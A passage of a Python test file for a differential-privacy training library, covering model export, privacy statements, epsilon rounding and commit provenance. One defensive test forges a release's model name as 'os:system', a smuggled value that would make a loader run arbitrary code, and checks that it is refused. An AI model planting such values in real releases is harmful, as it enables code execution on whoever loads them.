    ("key", "value"), [(key, value) for key, values in MISTYPED.items() for value in values]
)
def test_a_stranger_s_facts_of_other_types_are_one_error(key, value, release, tmp_path):
    folder = shutil.copytree(release, tmp_path / "mistyped")
    facts = json.loads((folder / "model.json").read_text()) | {key: value}
    facts = {k: v for k, v in facts.items() if v is not ABSENT}
    (folder / "model.json").write_text(json.dumps(facts))
    with pytest.raises(ValueError, match=r".") as error:
        export.load(folder)
    assert "\n" not in str(error.value)


def plan_of(accountant="rdp"):
    return PrivacyPlan(
        population=Population(1437), expected_batch_size=256, num_steps=4,
        noise_multiplier=1.2345678, epsilon=2.9996, delta=1.4e-5, accountant=accountant,
        mechanism_config={"name": "poisson"},
    )  # fmt: skip


def facts_of(accountant="rdp", recorded=None, **changes):
    """The facts of a plan, a config and a summary without a run."""
    summary = {
        "clip_norm": 1.0, "sensitivity": 1.0, "seed": None, "noise_key": "operating system",
        "noise": "N(0, σ²)", "sampling": "Poisson", "device": "cpu", "commit": "1d4e",
        "versions": {"dp-accounting": "0.6.0"},
    }  # fmt: skip
    config = base.get_config("dp_sgd").to_dict()
    for key, value in changes.items():
        section, _, last = key.partition("__")
        config[section][last] = value
    words = {"data": "data", "diagnosed": False, "exported_by": "bam"}
    plan = without_mu(plan_of(accountant))
    return statement.fields_of_run(config, plan, summary | (recorded or {}), **words)


def row_of(text, name):
    return next(line for line in text.splitlines() if line.startswith(f"| {name}"))


@pytest.mark.thorough
@pytest.mark.parametrize("accountant", ["rdp", "pld"])
def test_three_lines_without_bam_reproduce_epsilon(accountant):
    text = statement.text_of(facts_of(accountant))
    lines = text.partition("```python\n")[2].partition("\n```")[0].splitlines()
    assert len(lines) == 3 and not any("bam" in line for line in lines)
    exact = plan_of(accountant).epsilon_after(4)
    assert recomputed(text) == pytest.approx(exact, rel=1e-9)


def test_the_lines_in_a_release_print_the_epsilon_that_it_claims(finished, release):
    text = (release / "PRIVACY.md").read_text()
    claimed = files.read_json(finished / "summary.json")["epsilon"]
    assert recomputed(text) == pytest.approx(claimed, rel=1e-9)
    assert f"print {claimed}," in text and row_of(text, "ε, rounded up").endswith(f"{claimed} |")


def test_what_is_rounded_claims_less_than_what_is_exact():
    facts = facts_of(recorded={"sensitivity": 2.0})
    assert statement.render(facts, "claim") == "(3, 1.4e-05)"
    for key, shown, exact in (
        ("epsilon", "3", 2.9996),
        ("delta", "1.4e-05", 1.4e-5),
        ("q", "0.1782", 256 / 1437),
        ("sigma", "1.234", 1.2345678),
        ("std", "2.469", 2 * 1.2345678),
    ):
        assert (facts[key], facts[f"exact_{key}"]) == (shown, exact)
    for value in (1.4e-5, 1.00001e-5, 2.9996, 1e-7 / 3, 256.0, 0.99999, 123456.7, 0.0):
        above = float(statement.round_claim(value))
        assert value <= above <= value * (1 + 1.1e-3)
    assert float(f"{1.4e-5:.1g}") < 1.4e-5  # how 0.1.0 printed δ


def test_the_best_test_is_bounded_as_randomised_response_attains():
    for epsilon in (0.1, 1.0, 5.0):  # it answers truly with odds e^ε
        wrong = 1 / (1 + np.exp(epsilon))
        assert statement.most_power(epsilon, 0.0, wrong) == pytest.approx(1 - wrong)
    assert statement.most_power(0.0, 0.01, 0.05) == pytest.approx(0.06)
    assert statement.most_power(256.0, 1e-5, 0.001) == 1.0


def test_figures_and_steps_of_an_earlier_part_of_the_run_are_stated(run, release, tmp_path):
    with (run / "metrics.jsonl").open("a") as metrics:
        metrics.write('{"step": 1, "not_private/bias_norm": 0.5}\n')
    changed("summary", steps_begun=None, steps_taken=None)(run)
    export.export(run, tmp_path / "out")
    ours, earlier = ((x / "PRIVACY.md").read_text() for x in (release, tmp_path / "out"))
    for text, diagnosed in ((ours, False), (earlier, True)):
        figures = statement.render({"diagnosed": diagnosed}, "figures")
        assert row_of(text, "figures of training examples").endswith(f"| {figures} |")
    assert row_of(ours, "steps begun") == "| steps begun, lost ones included | | 3 |"
    assert row_of(earlier, "steps begun").endswith(f"| {statement.NOT_RECORDED} |")


@pytest.mark.skipif(not shutil.which("git"), reason="no git here")
def test_the_commit_is_that_of_this_code_and_of_no_project_around_it(tmp_path, monkeypatch):
    def git(*arguments):
        command = ["git", "-c", "user.name=a", "-c", "user.email=a@b", "-C", str(tmp_path)]
        return subprocess.run([*command, *arguments], check=True, capture_output=True, text=True)

    file = tmp_path / "bam" / "provenance.py"
    file.parent.mkdir(parents=True)
    file.write_text("")
    (tmp_path / "other").write_text("")
    git("init")
    git("add", "other")
    git("commit", "-m", "one")
    monkeypatch.setattr(provenance, "__file__", str(file))
    commit = provenance.git_commit.__wrapped__
    assert commit() == "not known"  # the code lies in a project that does not know it
    git("add", "bam")
    git("commit", "-m", "two")
    head = git("rev-parse", "HEAD").stdout.strip()
    assert commit() == head
    file.write_text("changed")
    assert commit() == f"{head} (modified)"
    monkeypatch.setenv("PATH", str(tmp_path))
    assert commit() == "not known"  # no git


@pytest.mark.thorough
def test_a_model_of_ones_own_is_released_and_read_by_whoever_names_it(tmp_path, monkeypatch):
    built = loop.build(tiny(**{"model.name": "examples.own_model:mlp"}), own_data())
    result = loop.train(built, None, tmp_path / "run")
    message = "the model is examples.own_model:mlp, code that is not bam's"
    with pytest.raises(ValueError, match=message):
        export.export(tmp_path / "run", tmp_path / "out")
    assert not (tmp_path / "out").exists()
    export.export(tmp_path / "run", tmp_path / "out", own_model="examples.own_model:mlp")
    with pytest.raises(ValueError, match=message):
        export.load(tmp_path / "out")
    facts = json.loads((tmp_path / "out/model.json").read_text())
    monkeypatch.setattr(os, "system", lambda *_, **__: pytest.fail("a stranger's release ran code"))
    forged = json.dumps(facts | {"model": facts["model"] | {"name": "os:system"}})
    (tmp_path / "out/model.json").write_text(forged)
    for trusted in ("", "examples.own_model:mlp"):
        with pytest.raises(ValueError, match="the model is os:system, code that is not bam's"):
            export.load(tmp_path / "out", trusted)
    (tmp_path / "out/model.json").write_text(json.dumps(facts))
    released = export.load(tmp_path / "out", "examples.own_model:mlp")
    assert_same_bits(released.params, jax.tree.map(jnp.asarray, result.state.averaged))


# Code that is not bam's, and what took the steps.


class ImportedError(Exception):
    """Stands for the import of a MODULE:FUNCTION."""


def importing_keys(monkeypatch):
    """The keys of a config whose MODULE:FUNCTION is imported when a run is built."""

    of_ours = named.import_function

    def import_function(what, name):
        if name.startswith("nowhere:"):
            raise ImportedError
        return of_ours(what, name)

    monkeypatch.setattr(named, "import_function", import_function)
    for key in base.KEYS:
        if not (isinstance(key.default, str) or key.kind is str):
            continue
        config = tiny(num_steps=1)
        if key.name.startswith("features."):
            config.features.name = "backbone"
        config.update_from_flattened_dict({key.name: "nowhere:part"})
        try:
            loop.build(config, None if key.name.startswith("dataset.") else own_data())
        except ImportedError:
            yield key.name
        except (ValueError, OSError):
            pass  # it takes no such name


def test_every_key_that_names_code_of_ones_own_is_in_the_statement(monkeypatch):
    keys = set(importing_keys(monkeypatch)) | {"features.name"}  # of a run that loads its data
    in_table = {key for key in statement.PARTS if "." in key}
    assert keys == in_table == {f"{x}.name" for x in USERS_OWN}
    for key in in_table:
        must_be = statement.render({"part_of": key, "named": " `nowhere:part`"}, "part")
        assert "`nowhere:part`, which must be: " in must_be
        assert facts_of(**{key.replace(".", "__"): "nowhere:part"})["parts"] == must_be
    assert facts_of()["parts"] == ""  # the control


@pytest.mark.thorough
def test_a_release_of_low_rank_factors_holds_the_product_in_the_layer_that_has_them(tmp_path):
    config = tiny_digits("dp_sgd", num_steps=2, checkpoint__every=1, trainable="lora|Conv_1")
    config.model.update({"name": "convnet", "width": 4})
    config.lora.update({"rank": 2, "targets": "Dense"})
    trained = loop.train(loop.build(config), None, tmp_path / "run")
    export.export(tmp_path / "run", tmp_path / "out")
    whole = traverse_util.flatten_dict(loop.whole_model(trained.state), sep="/")
    with np.load(tmp_path / "out" / "weights.npz") as released:
        assert {*released.files} == whole.keys()
        for name, x in whole.items():
            np.testing.assert_array_equal(released[name], x)
        alone = trained.state.frozen["Dense_0"]["kernel"]  # the control: W without A B
        assert not np.array_equal(released["Dense_0/kernel"], alone)


def test_a_release_and_a_public_page_name_the_code_but_not_the_data_set(run, tmp_path):
    def name_parts(config):
        config["loss"]["name"] = "mine:weighted"
        config["dataset"]["name"] = f"{OWN_NAME}:patients"
        config["optimizer"]["name"] = "/home/me:opt"

    edit(run / "config.json", name_parts)
    export.export(run, tmp_path / "out")
    text = (tmp_path / "out/PRIVACY.md").read_text()
    html = report.page(records_of.read(run), public=True, made_by="bam")
    for said in (text, html):
        for key in ("dataset.name", "optimizer.name"):
            assert statement.render({"part_of": key, "named": ""}, "part") in said
        assert "mine:weighted" in said
        assert OWN_NAME not in said and "/home/me" not in said


@pytest.mark.thorough
def test_a_loop_of_ones_own_names_the_commit_of_its_steps_and_whose_gradient_it_bounds(tmp_path):
    private = bam.PrivateTraining(
        num_examples=3, expected_batch_size=1, num_epochs=1, epsilon=3.0, delta=1e-3,
        accountant="rdp", clip=bam.clip_by_l2_norm(1.0), group_size=2,
        groups=np.array([1, 1, 2, 2, 3, 3]),
    )  # fmt: skip
    for _, _ in zip(range(2), private.batches(np.zeros((6, 2))), strict=False):
        pass
    private.write_statement(tmp_path / "PRIVACY.md", "six points of three")
    text = (tmp_path / "PRIVACY.md").read_text()
    assert row_of(text, "steps begun").endswith("| 2 |")
    assert row_of(text, "commit of bam's code") == f"| commit of bam's code | {COMMIT} | |"
    doors = {
        door: statement.render({"trained_by": door, "unit": "user"}, "gradient")
        for door in ("own loop", "bam train")
    }
    assert f"| {doors['own loop']} is |" in text and doors["bam train"] not in text
    assert facts_of()["trained_by"] == "bam train" and "mean" in doors["own loop"]


COMMIT = provenance.git_commit()


def process(first_step, commit="a", **changes):
    return ledger.this_process(first_step, 1) | {"commit": commit} | changes


def shares(begun, *processes, seed=None):
    """The shares as `(first, last, commit)`."""
    record = {"seed": seed, "steps_begun": begun, "processes": list(processes)}
    return [(x.first, x.last, (x.process or {}).get("commit")) for x in statement.shares_of(record)]


def test_every_step_that_was_begun_is_of_the_process_that_began_it():
    a, b = process, lambda first: process(first, "b")
    assert shares(4, a(1)) == [(1, 4, "a")]
    assert shares(4, a(1), b(3)) == [(1, 2, "a"), (3, 4, "b")]
    assert shares(4, a(1), a(2), b(3), b(4)) == [(1, 2, "a"), (3, 4, "b")]  # equal ones are one
    assert shares(4, a(1), b(3), a(4)) == [(1, 2, "a"), (3, 3, "b"), (4, 4, "a")]
    assert shares(4, a(1), b(3), a(3)) == [(1, 4, "a")]  # b was killed before its first step
    assert shares(4, b(3)) == [(1, 2, None), (3, 4, "b")]  # begun by an earlier version
    assert shares(4) == [(1, 4, None)]
    assert shares(0, a(1)) == [(1, 0, "a")]
    assert shares(4, a(1), b(5)) == [(1, 4, "a")]
    other = {"versions": {"jax": "0.1"}}, {"device": "gpu"}, {"num_devices": 2}
    for change in other:
        assert len(shares(4, a(1), process(3, **change))) == 2
    # With a seed steps are taken again: those of the last count, and no process is left out.
    assert shares(4, a(1), b(3), seed=1) == [(1, 2, "a"), (3, 4, "b")]
    assert shares(4, a(1), b(1), seed=1) == [(1, 0, "a"), (1, 4, "b")]
    assert shares(4, a(1), a(3), b(2), seed=1) == [(1, 1, "a"), (2, 4, "b")]


DAMAGED = [
    None, {}, "x", [1], [{}], [{"first_step": 1}], [process(0)], [process(1, commit=None)],
    [process(1, versions=[])], [process(1, num_devices="8")], [process(2**40)],
]  # fmt: skip


@pytest.mark.parametrize("damaged", DAMAGED, ids=range(len(DAMAGED)))
def test_a_stranger_s_processes_that_are_none_are_a_fault_and_no_release(damaged, run, tmp_path):
    damage = "processes does not list the commits that took the steps"
    assert not any(damage in fault for fault in records_of.read(run).faults())  # the control
    edit(run / "summary.json", lambda summary: summary.update(processes=damaged))
    with pytest.raises(ValueError, match=damage):
        export.export(run, tmp_path / "out")
    said = statement.taken_by(records_of.read(run).summary)
    assert statement.NOT_RECORDED in row_of(said, "commit of bam's code")
